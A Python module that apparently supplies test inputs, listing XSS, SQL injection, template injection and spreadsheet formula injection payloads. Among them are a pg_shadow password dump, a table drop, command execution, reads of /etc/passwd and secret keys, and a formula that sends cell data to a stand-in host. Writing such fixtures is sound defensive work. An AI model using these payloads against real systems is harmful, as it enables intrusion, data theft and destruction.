"""What is typed into fields by those who mean harm. `%N%` is replaced by the payload's number."""

# ruff: noqa: E501 - a payload in one piece is easier to read
from __future__ import annotations

CALL = "window.xss=(window.xss||[]).concat(%N%)"
_TAGS = [
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<scr<script>ipt>{c}</script>",
    "<script src=data:text/javascript,{c}></script>", "<script/x>{c}</script >",
    "<img src=x onerror={c}>", '<img src="x" onerror="{c}">', "<img src=x onerror={c}//",
    "<IMG SRC=x OnErRoR={c}>", "<image src=x onerror={c}>", "<svg onload={c}>", "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributename=x>", "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{c}</script>'></foreignObject></svg>",
    "<body onload={c}>", "<body onpageshow={c}>", "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe onload={c}></iframe>",
    "<object data=javascript:{c}></object>", "<object data='data:text/html,<script>{c}</script>'>",
    "<embed src=javascript:{c}>", "<embed src='data:image/svg+xml,<svg onload={c}>'>",
    "<input onfocus={c} autofocus>", "<select onfocus={c} autofocus>", "<textarea onfocus={c} autofocus>",
    "<keygen onfocus={c} autofocus>", "<video src=x onerror={c}>", "<video><source onerror={c}>",
    "<audio src=x onerror={c}>", "<details open ontoggle={c}>", "<marquee onstart={c}>",
    "<meter onmouseover={c}>0</meter>", "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>",
    "<a href='&#106;avascript:{c}'>x</a>", "<a href=' javascript:{c}'>x</a>", "<a onclick={c}>x</a>",
    "<form action=javascript:{c}><button>x</button></form>", "<button formaction=javascript:{c}>x</button>",
    "<form><input type=submit formaction=javascript:{c} autofocus></form>", "<isindex action=javascript:{c}>",
    "<link rel=stylesheet href=javascript:{c}>", "<link rel=import href='data:text/html,<script>{c}</script>'>",
    "<style>@import 'javascript:{c}';</style>", "<style>*{background:url(javascript:{c})}</style>",
    "<div style='background:url(javascript:{c})'>", "<div style='width:expression({c})'>",
    "<table background=javascript:{c}>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=javascript:{c}//>", "<math><mtext><script>{c}</script></mtext></math>",
    "<math href=javascript:{c}>x</math>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<title></title><script>{c}</script>",
    "</title><script>{c}</script>", "</textarea><script>{c}</script>", "</script><script>{c}</script>",
    "</style><script>{c}</script>", "</noscript><script>{c}</script>", "</option></select><script>{c}</script>",
    "--><script>{c}</script>", "<!--<img src='--><img src=x onerror={c}//'>", "]]><script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>",
    "<xss id=x tabindex=1 onfocus={c}></xss>", "<x onclick={c}>x</x>", "<x contenteditable onblur={c}>x</x>",
    "<dialog open onclose={c}><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle={c}>x</div><button popovertarget=p>y</button>",
    "<style>@keyframes x{}</style><x style='animation-name:x' onanimationstart={c}></x>",
    "<x ontransitionend={c}></x>", "<img src=1 href=1 onerror='javascript:{c}'></img>",
    "<img srcset=x onerror={c}>", "<picture><source srcset=x><img onerror={c} src=y></picture>",
    "<frameset onload={c}>", "<applet code=javascript:{c}>", "<bgsound src=javascript:{c}>",
    "<layer src=javascript:{c}></layer>", "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'/></svg>",
    "<svg><image href=x onerror={c}></svg>", "<svg><desc><![CDATA[</desc><script>{c}</script>]]></svg>",
    "<svg><style><img src=x onerror={c}></style>", "<math><style><img src=x onerror={c}></style></math>",
    "<p hx-get=javascript:{c} hx-trigger=load>", "<p data-refresh=1 id=live><img src=x onerror={c}></p>",
]  # fmt: skip
_BREAKOUTS = [
    '"><script>{c}</script>', "'><script>{c}</script>", '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>", '" onmouseover="{c}" x="', "' onmouseover='{c}' x='",
    '" autofocus onfocus="{c}" x="', "' autofocus onfocus='{c}' x='", "` onerror=`{c}`",
    '"/><svg onload={c}>', "';{c};//", '";{c};//', "\\';{c};//", '\\";{c};//', "`-{c}-`", "${{{c}}}",
    "{{{{{c}}}}}", "{{{{constructor.constructor('{c}')()}}}}", "<%= {c} %>", "#{{{c}}}", "[[{c}]]",
    "javascript:{c}", "JaVaScRiPt:{c}", "java\nscript:{c}", "\x01javascript:{c}", "data:text/html,<script>{c}</script>",
    "vbscript:{c}", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;", "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "\u2028<script>{c}</script>", "\ufeff<script>{c}</script>", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "<script>{c}</script", "<<script>{c}//<</script>", "<a\u200bhref=javascript:{c}>x</a>",
    "<img src=`x`onerror={c}>", "<img/src=x/onerror={c}>", "<img\nsrc=x\nonerror={c}>", "<img\x0csrc=x\x0conerror={c}>",
]  # fmt: skip


def xss() -> list[str]:
    """At least 120 payloads; number n adds n to `window.xss` if it ever runs."""
    found = []
    for number, form in enumerate([*_TAGS, *_BREAKOUTS]):
        text = form.replace("{{", "{").replace("}}", "}") if form in _BREAKOUTS else form
        found.append(text.replace("{c}", CALL).replace("%N%", str(number)))
    return [text.replace("\x01", "").replace("\x0c", " ") for text in found]


SQL = [
    "'", "''", '"', "`", "\\", "';", "' OR '1'='1", "' OR 1=1--", "\" OR 1=1--", "') OR ('1'='1",
    "1 OR 1=1", "1' AND SLEEP(5)--", "1; SELECT pg_sleep(5)--", "'; SELECT pg_sleep(5);--",
    "' || pg_sleep(5) || '", "1 AND (SELECT 1 FROM pg_sleep(5))", "(select pg_sleep(5))",
    "' UNION SELECT NULL--", "' UNION SELECT usename, passwd FROM pg_shadow--",
    "1 UNION ALL SELECT 1,2,3,4,5,version()", "'; DROP TABLE accounts_user; --", "%27%20OR%201=1",
    "' AND 1=CAST((SELECT version()) AS int)--", "'; COPY (SELECT 1) TO PROGRAM 'id';--", "$$", "$1",
    "%s", "%(x)s", "{}", "id desc; select 1", "1e309", "0x41", "NULL", "'::int", "1::text", "/**/OR/**/1=1",
    "admin'--", "x' AND email IS NULL; --", "_%_%", "[0]", "(((((((((", "*)(uid=*", "\u02bc OR 1=1",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7|add:7 }}", "{% debug %}", "{% load log %}", "{{settings.SECRET_KEY}}",
    "{{request.user.password}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "%(settings)s", "{0.__class__}",
    "{user.password}", "$(id)", "`id`", "{{{{7*7}}}}", "{#comment#}", "{% csrf_token %}",
]  # fmt: skip
CSV = [
    f"{lead}{body}"
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
    for body in ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")",
                 "SUM(1+1)*cmd|'/c calc'!A0", "IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")")
]  # fmt: skip
